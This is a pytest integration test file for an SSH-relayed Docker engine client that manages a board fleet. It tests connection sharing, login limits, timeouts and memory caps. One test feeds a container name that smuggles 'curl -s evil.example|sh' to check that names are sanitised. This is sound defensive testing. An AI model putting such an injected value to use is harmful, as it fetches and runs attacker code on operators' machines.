"""Connections to an engine; one that does not answer delays a run only once."""

import base64
import gc
import json
import os
import secrets
import socket
import socketserver
import sys
import tempfile
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from docker.errors import NotFound
from requests.exceptions import ConnectionError as RequestsConnectionError
from requests.exceptions import RequestException

from clients import engine, engine_api, limited_run, silent_engines, ssh
from clients.engine import Engine, connect
from clients.errors import ServiceError, SilentHostError
from clients.foreign import LONGEST
from clients.host_facts import HostError, ask_host
from clients.silent_engines import Address
from clients.ssh import LOGINS, SshRelay, forwarded, start_detached
from tests.integration.engine_answers import EngineAnswers
from wallets.backups.folder import backup_folder


@pytest.fixture
def tries(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Addresses to which a connection was tried; none of them answers."""
    tried: list[str] = []

    def fail(self: Engine) -> None:
        tried.append(self._host)
        raise SilentHostError(f"no Docker engine answers at {self._host}")

    monkeypatch.setattr(Engine, "_connect", fail)
    monkeypatch.setattr(engine, "_failures", {})
    monkeypatch.setattr(engine, "_shared", {})
    return tried


def test_a_dead_engine_is_not_asked_again_for_each_of_its_resources(tries: list[str]) -> None:
    for _ in range(3):
        with pytest.raises(SilentHostError, match="attic"):
            connect({"engine": "ssh://pi@attic.lan"})
    with pytest.raises(SilentHostError, match="cellar"):
        connect({"engine": "ssh://pi@cellar.lan"})
    assert tries == ["ssh://pi@attic.lan", "ssh://pi@cellar.lan"]


def test_another_way_to_the_same_host_is_tried(tries: list[str]) -> None:
    for options in ([], ["-i", "/key"]):
        with pytest.raises(SilentHostError):
            connect({"engine": "ssh://pi@attic.lan", "sshOptions": options})
    assert len(tries) == 2


def test_a_dead_engine_is_asked_again_after_a_while(
    tries: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(engine, "SILENT_FOR", 0.05)
    for _ in range(2):
        with pytest.raises(SilentHostError):
            connect({"engine": "ssh://pi@attic.lan"})
        time.sleep(0.06)
    assert len(tries) == 2


def test_a_missing_engine_is_named_in_one_line(tmp_path: Path) -> None:
    with pytest.raises(SilentHostError) as raised:
        connect({"engine": f"unix://{tmp_path}/docker.sock"})
    assert str(raised.value).startswith(f"no Docker engine answers at unix://{tmp_path}/docker.sock: ")
    assert "\n" not in str(raised.value)


def frame(stream: int, part: bytes) -> bytes:
    """A part of an exec's standard output (1) or error (2), as engines send it."""
    return bytes([stream, 0, 0, 0]) + len(part).to_bytes(4) + part


class Answers(EngineAnswers):
    """A Docker engine's answers: its version, a pull, and an exec."""

    protocol_version = "HTTP/1.1"

    def get(self) -> None:
        self.answer(200, {"ApiVersion": "1.41", "Version": "20.10.24", "ExitCode": 0})

    def post(self) -> None:
        """Answer a pull or an exec; an exec's first output shares a packet with the headers."""
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        assert isinstance(self.server, Listener)
        self.server.headers.append((urlsplit(self.path).path.partition("/v1.41")[2], dict(self.headers)))
        if "/images/create" in self.path:
            self.answer(200, {"status": "Pull complete"})
        elif self.path.endswith("/exec"):
            self.answer(201, {"Id": "one"})
        elif "/gone/" in self.path:
            self.answer(404, {"message": "No such exec instance: gone"})
        else:
            assert json.loads(body)["Detach"] is False
            upgraded = "Upgrade" in self.headers
            first = b"101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: tcp" if upgraded else b"200 OK"
            self.wfile.write(b"HTTP/1.1 " + first + b"\r\n\r\n" + frame(1, b"begun, "))
            self.server.exec_began.set()
            self.server.exec_may_end.wait(20)
            self.wfile.write(frame(2, b"ended")[: 10 if "/cut/" in self.path else None])
            self.close_connection = True


class Listener(socketserver.ThreadingUnixStreamServer):
    """An engine's socket, which counts its connections."""

    daemon_threads = True
    connections = 0

    def __init__(self, *arguments: Any) -> None:
        super().__init__(*arguments)
        self.exec_began, self.exec_may_end = threading.Event(), threading.Event()
        self.exec_may_end.set()
        self.headers: list[tuple[str, dict[str, str]]] = []
        """Path and headers of each POST."""

    def process_request(self, request: Any, client_address: Any) -> None:
        self.connections += 1
        super().process_request(request, client_address)


@pytest.fixture
def listener(tmp_path: Path) -> Iterator[Listener]:
    with Listener(str(tmp_path / "docker.sock"), Answers) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


def test_all_requests_to_an_engine_share_one_connection(listener: Listener) -> None:
    """docker-py made a connection for each URL; a host with three resources was connected to nine times."""
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    for path in ("volumes/one", "volumes/two", "containers/json", "info"):
        api = asked.client().api
        assert api.get(f"{api.base_url}/{path}").ok
    assert listener.connections == 1


def test_the_resources_of_an_engine_share_a_client_and_other_ways_to_it_do_not(listener: Listener) -> None:
    place = {"engine": f"unix://{listener.server_address!s}"}
    with ThreadPoolExecutor(8) as pool:
        clients = {id(client) for client in pool.map(lambda _: connect(place), range(24))}
    assert len(clients) == 1
    assert listener.connections == 1
    assert id(connect({**place, "sshOptions": ["-i", "/key"]})) not in clients


def test_a_client_is_created_again_after_its_engine_went_away_and_came_back(tmp_path: Path) -> None:
    path = tmp_path / "docker.sock"
    found = []
    for _ in range(2):
        with Listener(str(path), Answers) as server:
            threading.Thread(target=server.serve_forever, daemon=True).start()
            found.append(connect({"engine": f"unix://{path}"}))
            assert found[-1].api.version()["Version"] == "20.10.24"
            server.shutdown()
        found[-1].api.close()
        path.unlink()
    assert connect_fails(path)


def connect_fails(path: Path) -> bool:
    try:
        connect({"engine": f"unix://{path}"})
    except SilentHostError:
        return True
    return False


def test_the_complete_output_of_an_exec_is_read_even_if_it_arrives_with_the_answers_header(
    listener: Listener,
) -> None:
    """docker-py lost it: a wallet looked empty, or the read waited for an end that had already arrived."""
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    client = asked.client()
    assert client.api.exec_start("one") == b"begun, ended"
    code, output = client.containers.prepare_model({"Id": "node"}).exec_run(["true"])
    assert (code, output) == (0, b"begun, ended")


def test_an_exec_that_runs_holds_up_no_other_request_and_its_connection_serves_none(
    listener: Listener,
) -> None:
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    api = asked.client().api
    listener.exec_may_end.clear()
    with ThreadPoolExecutor(1) as pool:
        output = pool.submit(api.exec_start, "one")
        assert listener.exec_began.wait(10)
        assert api.get(f"{api.base_url}/info", timeout=5).ok
        listener.exec_may_end.set()
        assert output.result(10) == b"begun, ended"
    assert api.get(f"{api.base_url}/info", timeout=5).ok
    assert listener.connections == 3


def test_an_exec_is_started_with_the_headers_of_the_docker_config(
    listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A proxy in front of an engine may require such headers (HttpHeaders) in each request."""
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    (tmp_path / "config.json").write_text(json.dumps({"HttpHeaders": {"X-Meta-Source": "operator"}}))
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    assert asked.client().api.exec_start("one") == b"begun, ended"
    assert [(path, sent.get("X-Meta-Source")) for path, sent in listener.headers] == [
        ("/exec/one/start", "operator")
    ]


def test_a_pull_uses_the_current_login_of_the_docker_config(
    listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Amazon's login expires after 12 hours, and a provider lives as long as its `up`."""
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    for login in ("me:former", "me:renewed"):
        entry = {"auth": base64.b64encode(login.encode()).decode()}
        (tmp_path / "config.json").write_text(json.dumps({"auths": {"registry.example": entry}}))
        list(asked.client().api.pull(f"registry.example/skycoin@sha256:{'a' * 64}", stream=True))
    (tmp_path / "config.json").unlink()
    list(asked.client().api.pull(f"registry.example/skycoin@sha256:{'a' * 64}", stream=True))
    assert [path for path, _ in listener.headers] == ["/images/create"] * 3
    *sent, none = [headers.get("X-Registry-Auth") for _, headers in listener.headers]
    found = [json.loads(base64.urlsafe_b64decode(header or "")) for header in sent]
    assert [login["password"] for login in found] == ["former", "renewed"]
    assert none is None


def test_an_exec_that_is_refused_is_an_error_of_the_engines(listener: Listener) -> None:
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    with pytest.raises(NotFound, match="No such exec instance: gone"):
        asked.client().api.exec_start("gone")


SLOW_LOGIN = """\
#!/bin/sh
[ "$1" != -O ] || exit 255  # no shared connection is open
echo "$$ begins" >> "$LOGINS"
sleep 0.1
echo "$$ is in" >> "$LOGINS"
echo answer
cat > /dev/null
"""


@pytest.fixture
def logins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Log of an `ssh` that takes its time to log in; SLOW_LOGIN then stays connected."""
    program, record = tmp_path / "ssh", tmp_path / "logins"
    program.write_text(SLOW_LOGIN)
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    monkeypatch.setenv("LOGINS", str(record))
    return record


def test_no_more_than_ten_connections_log_in_at_once(logins: Path) -> None:
    """sshd drops concurrent logins beyond ten, and all boards behind a jump host share its sshd."""
    relays = [SshRelay(f"ssh://pi@board-{number}.lan", []) for number in range(25)]

    def answered(relay: SshRelay) -> tuple[bytes, socket.socket]:
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(20)
        connection.connect(relay.address.removeprefix("unix://"))
        return connection.recv(100), connection

    with ThreadPoolExecutor(25) as pool:
        answers = list(pool.map(answered, relays))
    assert {said for said, _ in answers} == {b"answer\n"}
    assert most_at_once(logins) == (25, LOGINS) == (25, 10)
    for _, connection in answers:
        connection.close()


EACH_WAY = """\
#!/bin/sh
[ "$1" != -O ] || exit 255  # no shared connection is open
echo "$$ begins" >> "$LOGINS"
sleep 0.3
echo "$$ is in" >> "$LOGINS"
case "$*" in
  *" docker system dial-stdio") printf 'HTTP/1.1 200 OK\\r\\n\\r\\n' ;;
  *"echo ready; cat"*) echo ready ;;
  *nohup*) echo started ;;
esac
cat > /dev/null
"""


def test_all_that_a_process_asks_of_hosts_counts_among_the_ten(logins: Path) -> None:
    """Before, facts, pings, ports for pulls and watchdogs came on top of the ten logins of the relays."""
    put_ssh(logins, EACH_WAY)

    def pinged(url: str) -> None:
        assert silent_engines.silent([Address(url)]) == {}

    def told(url: str) -> None:
        with pytest.raises(HostError):
            ask_host(url)

    def forwards(url: str) -> None:
        with forwarded(url, [], "127.0.0.1", 5443) as there:
            assert there == 5443

    def kept(url: str) -> None:
        backup_folder(f"{url}/backups", []).names()

    ways: list[Callable[[str], object]] = [
        lambda url: start_detached(url, [], "true", []),
        lambda url: pinged_through(SshRelay(url, [])),
        pinged,
        told,
        forwards,
        kept,
    ]
    with ThreadPoolExecutor(60) as pool:
        list(pool.map(lambda at: ways[at % 6](f"ssh://pi@board-{at}.lan"), range(60)))
    assert most_at_once(logins) == (60, LOGINS)


def pinged_through(relay: SshRelay) -> None:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(relay.address.removeprefix("unix://"))
        assert connection.recv(100).startswith(b"HTTP/1.1 200")
    relay.close()


def most_at_once(logins: Path) -> tuple[int, int]:
    """Number of logins in the log, and the most at any time."""
    now, most, lines = 0, 0, logins.read_text().splitlines()
    for line in lines:
        now += 1 if line.endswith("begins") else -1
        most = max(most, now)
    assert now == 0
    return len(lines) // 2, most


LARGE = """\
#!{python}
import fcntl, os
fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | os.O_NONBLOCK)  # as OpenSSH does
rest = memoryview(bytes(range(256)) * 20000)
while rest:
    rest = rest[os.write(1, rest[:100_000]) :]
"""


def test_a_large_answer_reaches_a_slow_reader_completely(logins: Path) -> None:
    """ssh makes its input nonblocking, which is the relay's output too: a full one is not a closed one."""
    put_ssh(logins, LARGE.format(python=sys.executable))
    with socket.socket(socket.AF_UNIX) as reader:
        reader.settimeout(20)
        reader.connect(SshRelay("ssh://pi@attic.lan", []).address.removeprefix("unix://"))
        found = bytearray()
        while part := reader.recv(65536):
            if len(found) < 1_000_000:
                time.sleep(0.02)
            found += part
    assert bytes(found) == bytes(range(256)) * 20000


@pytest.mark.parametrize("flood", ["head -c 3000000 /dev/zero >&2", "yes 'no such file' >&2"])
def test_what_a_host_prints_as_errors_is_kept_in_part(
    flood: str, logins: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Before, it grew a file in the temporary folder, and a message had all of it."""
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    put_ssh(logins, f"#!/bin/sh\necho answer\n{flood} &\ncat > /dev/null\nkill $!\n")
    relay = SshRelay("ssh://pi@attic.lan", [])
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(relay.address.removeprefix("unix://"))
        assert connection.recv(100) == b"answer\n"
        until = time.monotonic() + 20
        while not relay.last_words():
            assert time.monotonic() < until
            time.sleep(0.02)
        time.sleep(0.2)
        assert len(relay.last_words()) <= LONGEST + 3
        assert sum(file.stat().st_size for file in tmp_path.rglob("*") if file.is_file()) < 10_000
    relay.close()


def test_a_host_that_prints_without_end_starts_no_command(
    logins: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limited_run, "LARGEST", 100_000)
    put_ssh(logins, "#!/bin/sh\nexec yes\n")
    with pytest.raises(ServiceError, match="did not start the command: it prints too much"):
        start_detached("ssh://pi@attic.lan", [], "true", [])


def test_the_reason_of_ssh_is_in_the_message_for_a_host_that_does_not_answer(logins: Path) -> None:
    put_ssh(logins, "#!/bin/sh\necho 'Host key verification failed.' >&2; exit 255\n")
    for _ in range(20):
        asked = Engine()
        asked.configure({"host": f"ssh://pi@{secrets.token_hex(4)}.lan"})
        with pytest.raises(SilentHostError, match=r"\.lan: Host key verification failed\.\. Try `"):
            asked.client()


def test_a_connection_that_is_cut_before_the_first_answer_is_called_so(logins: Path) -> None:
    """The shared connection's own last words go nowhere."""
    put_ssh(logins, "#!/bin/sh\nexit 255\n")
    asked = Engine()
    asked.configure({"host": "ssh://pi@cut.lan"})
    with pytest.raises(SilentHostError, match=r"cut\.lan: the connection ends without an answer\. Try `"):
        asked.client()


PAST_A_JUMP_HOST = """\
#!/bin/sh
[ "$1" != -O ] || exit 255
case "$*" in
  *ControlPersist*) ;;
  *) echo "ssh: connect to host gate.lan port 22: Connection refused" >&2 ;;
esac
echo "kex_exchange_identification: Connection closed by remote host" >&2
echo "Connection closed by UNKNOWN port 65535" >&2
exit 255
"""


def test_what_the_ssh_to_a_jump_host_says_is_in_the_message(logins: Path) -> None:
    """ssh discards that while it shares a connection."""
    put_ssh(logins, PAST_A_JUMP_HOST)
    asked = Engine()
    asked.configure({"host": "ssh://pi@behind.lan", "sshOpts": ["-J", "gate.lan"]})
    with pytest.raises(SilentHostError, match=r"gate\.lan port 22: Connection refused"):
        asked.client()


def test_a_process_that_may_start_no_thread_loses_no_place_of_a_login(
    logins: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, ten such failures blocked every further connection, or the relay stopped after the first."""
    relay, start = SshRelay("ssh://pi@attic.lan", []), threading.Thread.start
    for kind in ("Timer", "Thread"):
        with monkeypatch.context() as full:

            def refuse(thread: threading.Thread, kind: str = kind) -> None:
                if type(thread).__name__ == kind:
                    raise RuntimeError("can't start new thread")
                start(thread)

            full.setattr(threading.Thread, "start", refuse)
            for _ in range(LOGINS + 1):
                with socket.socket(socket.AF_UNIX) as connection:
                    connection.settimeout(20)
                    connection.connect(relay.address.removeprefix("unix://"))
                    assert connection.recv(100) == b"", kind
            assert relay.last_words() == "can't start new thread"
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(20)
        connection.connect(relay.address.removeprefix("unix://"))
        assert connection.recv(100) == b"answer\n"
    relay.close()


def test_without_ssh_each_connection_ends_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before, the eleventh connection waited forever for another one's login."""
    monkeypatch.setenv("PATH", str(tmp_path))
    for _ in range(LOGINS + 2):
        asked = Engine()
        asked.configure({"host": f"ssh://pi@board-{secrets.token_hex(4)}.lan"})
        with pytest.raises(SilentHostError, match="No such file or directory: 'ssh'"):
            asked.client()


def test_the_command_to_try_has_the_hosts_ssh_options(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    asked = Engine()
    asked.configure({"host": "ssh://pi@other-port.lan", "sshOpts": ["-p", "2222"]})
    with pytest.raises(SilentHostError, match=r"Try `ssh -p 2222 ssh://pi@other-port\.lan docker version`;"):
        asked.client()


def test_an_exec_that_is_cut_off_does_not_count_as_complete(listener: Listener) -> None:
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    with pytest.raises(RequestsConnectionError, match="in the middle of an exec's output"):
        asked.client().api.exec_start("cut")


def test_an_answer_without_end_is_given_up_before_this_machines_memory_is_full(
    listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A compromised board could send one to each `fleet status --watch`, and to each `up`."""
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    api = asked.client().api
    for question in (api.info, lambda: api.exec_start("one")):
        monkeypatch.setattr(engine_api, "LARGEST", 5)
        with pytest.raises(RequestException, match="the answer is longer than 5 B"):
            question()
        monkeypatch.setattr(engine_api, "LARGEST", 5_000)
        assert question()


HEADER = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
CHUNKED = HEADER + b"Transfer-Encoding: chunked\r\n\r\n"
DRIPS = {
    "header": (b"HTTP/1.1 200 OK\r\nX-A: ", b"b"),
    "error": (b"HTTP/1.1 500 No\r\nContent-Length: 1000000\r\n\r\n", b" "),
    "body": (HEADER + b"Content-Length: 1000000\r\n\r\n", b" "),
    "chunks": (CHUNKED, b"1\r\n \r\n"),
    "one chunk": (CHUNKED + b"fffff\r\n", b" "),
    "until the end": (HEADER + b"\r\n", b" "),
    "lines": (CHUNKED, b"3\r\n{}\n\r\n"),
}
"""Answers that never end: their beginning, and what comes again and again."""


def drip(monkeypatch: pytest.MonkeyPatch, begun: bytes, again: bytes, pause: float = 0.02) -> None:
    """Let the engine send a byte now and then as its answer to everything but the question of its version."""
    version, ping = Answers.do_GET, ("/version", "/_ping")

    def answer(self: Answers) -> None:
        if urlsplit(self.path).path.endswith(ping):
            version(self)
            return
        self.close_connection = True
        try:
            self.wfile.write(begun)
            for _ in range(int(60 / pause) if pause else 10**6):
                self.wfile.write(again)
                time.sleep(pause)
        except OSError:  # the client has given up
            pass

    monkeypatch.setattr(Answers, "do_GET", answer)
    monkeypatch.setattr(Answers, "do_POST", answer)


def api_of(listener: Listener) -> Any:
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    return asked.client().api


@pytest.mark.parametrize(("begun", "again"), DRIPS.values(), ids=DRIPS.keys())
@pytest.mark.parametrize("question", ["info", "exec"])
def test_an_answer_that_never_ends_is_given_up(
    begun: bytes, again: bytes, question: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A byte every few seconds meets no limit of the time between two bytes: before, `up` never ended."""
    api = api_of(listener)
    drip(monkeypatch, begun, again)
    monkeypatch.setattr(engine_api, "PATIENCE", 0.3 / 120)
    with pytest.raises(RequestException, match="the answer did not end in 0 s"):
        api.info() if question == "info" else api.exec_start("one")


def test_a_slow_answer_may_take_several_times_the_longest_silence(
    listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = api_of(listener)

    def answer(self: Answers) -> None:
        self.wfile.write(HEADER + b"Content-Length: 20\r\n\r\n")
        for byte in b'{"Name":"attic"}    ':
            self.wfile.write(bytes([byte]))
            time.sleep(0.06)

    monkeypatch.setattr(Answers, "do_GET", answer)
    api.timeout = 1
    begun = time.monotonic()
    assert api.info() == {"Name": "attic"}
    assert time.monotonic() - begun > api.timeout


def test_each_answer_on_a_connection_has_its_own_time_limit(
    listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(engine_api, "PATIENCE", 1 / 120)
    api = api_of(listener)
    for _ in range(3):
        assert api.info()
        time.sleep(0.6)
    assert listener.connections == 1


@pytest.mark.parametrize("kind", ["header", "error", "one chunk", "until the end", "lines"])
@pytest.mark.parametrize("question", ["pull", "archive"])
def test_an_answer_in_parts_that_never_ends_is_given_up(
    kind: str, question: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """docker-py has no time limit at all for a pull and for an archive."""
    api = api_of(listener)
    begun, again = DRIPS[kind]
    stat = base64.b64encode(b"{}")
    drip(
        monkeypatch, begun.replace(b"\r\n", b"\r\nX-Docker-Container-Path-Stat: " + stat + b"\r\n", 1), again
    )
    monkeypatch.setattr(engine_api, "STREAM_SECONDS", 0.3)
    with pytest.raises(RequestException, match=r"did not end in 0 s|Read timed out"):
        deque(read_in_parts(api, question), maxlen=0)


def read_in_parts(api: Any, question: str) -> Iterator[object]:
    if question == "pull":
        yield from api.pull("skycoin", tag="a", stream=True, decode=True)
    else:
        yield from api.get_archive("one", "/wallet")[0]


@pytest.mark.parametrize(
    ("again", "limits", "problem"),
    [
        (b"3\r\n   \r\n", {"LONGEST_LINE": 10_000}, r"a line of its progress is longer than 10\.0 kB"),
        (b"3\r\n{}\n\r\n", {"LARGEST_PROGRESS": 10_000}, r"its progress is longer than 10\.0 kB"),
        (b"3\r\n[]\n\r\n", {}, r"its progress is not in Docker's form: b'\[\]'"),
        (b"3\r\n{{\n\r\n", {}, r"its progress is not in Docker's form: b'{{'"),
        (b"3\r\n\xff\n\n\r\n", {}, r"its progress is not in Docker's form: b'\\xff'"),
    ],
)
def test_the_progress_of_a_pull_fills_no_memory(
    again: bytes,
    limits: dict[str, int],
    problem: str,
    listener: Listener,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    api = api_of(listener)
    drip(monkeypatch, CHUNKED, again, pause=0)
    for name, limit in limits.items():
        monkeypatch.setattr(engine_api, name, limit)
    with pytest.raises(RequestException, match=problem):
        deque(read_in_parts(api, "pull"), maxlen=0)


def test_an_error_in_place_of_a_pulls_progress_has_a_limited_length(
    listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    api = api_of(listener)
    drip(monkeypatch, b"HTTP/1.1 500 No\r\nContent-Length: 100000000\r\n\r\n", b" " * 1000, pause=0)
    monkeypatch.setattr(engine_api, "LARGEST", 10_000)
    with pytest.raises(RequestException, match=r"the answer is longer than 10\.0 kB"):
        api.pull("skycoin", tag="a", stream=True, decode=True)


def test_the_lines_of_a_pull_arrive_one_by_one(listener: Listener, monkeypatch: pytest.MonkeyPatch) -> None:
    """Docker sends each line as soon as it has it, ended by a carriage return and a line feed."""
    api, may_go_on = api_of(listener), threading.Event()

    def answer(self: Answers) -> None:
        line = b'{"status":"Waiting"}\r\n'
        self.wfile.write(CHUNKED + b"%x\r\n%s\r\n" % (len(line), line))
        assert may_go_on.wait(20)
        self.wfile.write(b'11\r\n{"status":"Done"}\r\n0\r\n\r\n')

    monkeypatch.setattr(Answers, "do_POST", answer)
    lines = api.pull("skycoin", tag="a", stream=True, decode=True)
    assert next(lines) == {"status": "Waiting"}
    may_go_on.set()
    assert list(lines) == [{"status": "Done"}]


INSPECTED = {
    "Id": "one",
    "Name": "/web",
    "Image": f"sha256:{'a' * 64}",
    "State": {"Status": "running", "Running": True, "ExitCode": 0},
    "Config": {"Image": "web", "Tty": False, "Labels": {"a": "b"}, "Cmd": ["true"]},
    "HostConfig": {"AutoRemove": False, "RestartPolicy": {"Name": "no"}},
    "Mounts": [{"Type": "volume", "Name": "wallet", "Source": "/w", "Destination": "/wallet", "RW": True}],
}


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("/skycoin-attic", "/skycoin-attic"),
        ("/web_1.2/db", "/web_1.2/db"),
        ("/web; curl -s evil.example|sh #\x1b[2J", "/web??curl?-s?evil.example?sh????2J"),
    ],
)
def test_a_containers_name_is_no_command(
    name: str, shown: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Messages tell the operator to run `docker -H ssh://… stop NAME`, and a board may send any name."""
    inspected = {**INSPECTED, "Name": name, "Image": f"sha256:{'a' * 64}{name[4:]}"}
    listed = {"Id": "one", "Names": [name], "Image": "web", "State": "running"}

    def answer(self: Answers) -> None:
        is_list = "/containers/json" in self.path
        version = {"ApiVersion": "1.41"}
        self.answer(
            200, [listed, {**listed, "Id": "two", "Names": None}] if is_list else {**inspected, **version}
        )

    monkeypatch.setattr(Answers, "do_GET", answer)
    asked = Engine()
    asked.configure({"host": f"unix://{listener.server_address!s}"})
    client = asked.client()
    assert [container["Names"] for container in client.api.containers()] == [[shown], ["/two"]]
    one = client.containers.get("one")
    assert one.name == shown.removeprefix("/")
    assert ";" not in one.attrs["Image"]


def put_ssh(record: Path, text: str) -> None:
    """Replace the program ssh by renaming a new file over it, because the old one may be starting."""
    aside = record.with_name("ssh.new")
    aside.write_text(text)
    aside.chmod(0o755)
    aside.rename(record.with_name("ssh"))


def test_a_login_that_waits_for_its_engine_holds_up_no_other(
    logins: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An engine that stops a container answers after up to 60 s; an eleventh host must not wait for that."""
    put_ssh(logins, "#!/bin/sh\ncat > /dev/null\n")
    monkeypatch.setattr(ssh, "LOGIN_SECONDS", 0.2)
    relay = SshRelay("ssh://pi@attic.lan", [])
    silent = [socket.socket(socket.AF_UNIX) for _ in range(LOGINS)]
    for client in silent:
        client.connect(relay.address.removeprefix("unix://"))
    time.sleep(0.5)  # all of them start the silent ssh
    put_ssh(logins, SLOW_LOGIN)
    with socket.socket(socket.AF_UNIX) as eleventh:
        eleventh.settimeout(10)
        eleventh.connect(SshRelay("ssh://pi@shed.lan", []).address.removeprefix("unix://"))
        assert eleventh.recv(100) == b"answer\n"
    for client in silent:
        client.close()


DIAL = """\
#!{python}
import os, socket, sys, threading
if sys.argv[1] == "-O":
    sys.exit(255)  # no shared connection is open
with open(os.environ["LOGINS"], "a") as record:
    print(os.getpid(), file=record)
engine = socket.socket(socket.AF_UNIX)
engine.connect("{engine}")


def answer():
    while part := engine.recv(65536):
        os.write(1, part)
    os._exit(0)


threading.Thread(target=answer, daemon=True).start()
while part := os.read(0, 65536):
    engine.sendall(part)
"""


def dialling(logins: Path, listener: Listener) -> None:
    """Make ssh connect to this engine until its input ends."""
    put_ssh(logins, DIAL.format(python=sys.executable, engine=listener.server_address))


def behind_ssh(name: str) -> Any:
    asked = Engine()
    asked.configure({"host": f"ssh://pi@{name}.lan"})
    return asked.client()


def of_relays(logins: Path) -> tuple[int, int, int]:
    """Number of the relays' threads, ssh processes and listening sockets."""
    threads = sum(thread.name.startswith("ssh ssh://pi@closed-") for thread in threading.enumerate())
    pids = logins.read_text().split() if logins.exists() else []
    sockets = Path(tempfile.gettempdir()).glob("skycoin-ssh-*/docker.sock")
    return threads, sum(Path(f"/proc/{pid}").exists() for pid in pids), len(list(sockets))


def comes_to(wanted: tuple[int, int, int], logins: Path, seconds: float = 5) -> bool:
    until = time.monotonic() + seconds
    while of_relays(logins) != wanted and time.monotonic() < until:
        time.sleep(0.02)
    return of_relays(logins) == wanted


@pytest.fixture
def own_folder(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A folder for temporary files without other tests' relays; its path is short, as a socket requires."""
    with tempfile.TemporaryDirectory() as folder:
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield


@pytest.mark.usefixtures("own_folder")
def test_a_closed_client_leaves_no_ssh_no_thread_and_no_socket(listener: Listener, logins: Path) -> None:
    """Before, a provider that lives for hours, or `fleet status --watch`, left one of each at every look."""
    dialling(logins, listener)
    clients = [behind_ssh(f"closed-{number}") for number in range(5)]
    assert [client.api.version()["Version"] for client in clients] == ["20.10.24"] * 5
    assert of_relays(logins) == (10, 5, 5)
    for client in clients:
        client.close()
    assert comes_to((0, 0, 0), logins)
    for client in clients:
        client.close()  # a second close is no error


@pytest.mark.usefixtures("own_folder")
def test_an_unreferenced_client_leaves_no_ssh_no_thread_and_no_socket(
    listener: Listener, logins: Path
) -> None:
    dialling(logins, listener)
    assert behind_ssh("closed-1").api.version()["Version"] == "20.10.24"
    gc.collect()
    assert comes_to((0, 0, 0), logins)


@pytest.mark.usefixtures("own_folder")
def test_a_host_that_does_not_answer_leaves_nothing_behind(logins: Path) -> None:
    put_ssh(logins, "#!/bin/sh\necho 'no route to host' >&2\nexit 255\n")
    with pytest.raises(SilentHostError, match="no route to host"):
        behind_ssh("closed-1")
    assert comes_to((0, 0, 0), logins)


@pytest.mark.usefixtures("own_folder")
def test_a_client_still_in_use_is_not_cut_off_when_a_new_client_is_created(
    listener: Listener, logins: Path
) -> None:
    """A connection that was dropped while idle says nothing about the others: one may be in use by a pull."""
    dialling(logins, listener)
    place = {"engine": "ssh://pi@closed-9.lan"}
    former = connect(place)
    listener.exec_may_end.clear()
    with ThreadPoolExecutor(1) as pool:
        output = pool.submit(former.api.exec_start, "one")
        assert listener.exec_began.wait(10)
        former.api.timeout = 0.0001  # so that the ping fails
        later = connect(place)
        former.api.timeout = 20
        listener.exec_may_end.set()
        assert output.result(10) == b"begun, ended"
    assert later is not former
    assert former.api.version()["Version"] == "20.10.24"
    later.close()
